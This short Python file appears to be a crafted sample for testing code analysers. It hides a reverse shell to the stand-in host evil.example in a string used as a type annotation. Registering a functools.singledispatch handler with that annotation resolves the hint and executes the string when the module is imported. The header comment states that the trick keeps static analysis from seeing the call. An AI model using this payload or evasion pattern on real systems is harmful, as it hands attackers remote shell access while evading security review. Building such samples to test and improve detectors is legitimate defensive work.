# harm: spawns a reverse shell with subprocess ; trick: functools.singledispatch .register(func) resolves type hints internally, so the file never names the resolver and plain string bindings are not analysed
import functools

S = "__import__('subprocess').Popen(['bash','-c','bash -i >& /dev/tcp/evil.example/4444 0>&1'])"


@functools.singledispatch
def render(x):
    return str(x)


try:
    @render.register
    def _(x: S):
        return "custom"
except Exception:
    pass
